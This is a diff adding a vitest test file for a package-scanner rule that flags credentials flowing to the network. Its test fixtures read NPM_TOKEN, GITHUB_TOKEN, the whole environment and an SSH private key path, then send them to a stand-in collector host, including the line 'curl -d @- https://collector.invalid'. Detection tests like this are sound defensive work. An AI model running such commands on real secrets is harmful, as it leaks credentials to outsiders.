@@ -1,0 +1,47 @@
+import { describe, expect, it } from 'vitest';
+import type { CodeFact } from '../../analysis/types.js';
+import { at, call, flow, packageFacts } from '../rule-test-kit.js';
+import { credentialExfilChain as rule } from './credential-exfil-chain.js';
+
+const env = (key: string, line: number): CodeFact => ({ kind: 'env-read', key, at: at('index.js', line) });
+const post = call('https.request', 'network', at('index.js', 9), ['https://collector.invalid/']);
+
+describe('credential-exfil-chain', () => {
+  it.each([
+    ['the whole environment', env('*', 2)],
+    ['process.env.NPM_TOKEN', env('NPM_TOKEN', 2)],
+    ['SSH keys', call('fs.readFileSync', 'filesystem-read', at('index.js', 2), ['/home/u/.ssh/id_rsa'])],
+  ])('reports %s flowing to the network, with both ends', (source, from) => {
+    const findings = rule.run(packageFacts({ code: [from, post, flow(from, post)] }));
+    expect(findings).toHaveLength(1);
+    expect(findings[0]).toMatchObject({
+      message: `${source} flows into https.request`,
+      severity: 'critical',
+    });
+    expect(findings[0]?.source).toEqual(at('index.js', 2));
+    expect(findings[0]?.sink).toEqual(at('index.js', 9));
+  });
+
+  it('reports a secret handed to curl', () => {
+    const from = env('GITHUB_TOKEN', 1);
+    const curl = call('child_process.exec', 'process', at('index.js', 4), [
+      'curl -d @- https://collector.invalid',
+    ]);
+    expect(rule.run(packageFacts({ code: [from, curl, flow(from, curl)] }))).toHaveLength(1);
+  });
+
+  it('is silent for a harmless variable flowing to the network (debug reads DEBUG)', () => {
+    const from = env('DEBUG', 1);
+    expect(rule.run(packageFacts({ code: [from, post, flow(from, post)] }))).toEqual([]);
+  });
+
+  it('is silent when a secret and a network call only share a file', () => {
+    expect(rule.run(packageFacts({ code: [env('NPM_TOKEN', 1), post] }))).toEqual([]);
+  });
+
+  it('is silent for a secret written to a local file', () => {
+    const from = env('*', 1);
+    const write = call('fs.writeFileSync', 'filesystem-write', at('index.js', 3));
+    expect(rule.run(packageFacts({ code: [from, write, flow(from, write)] }))).toEqual([]);
+  });
+});
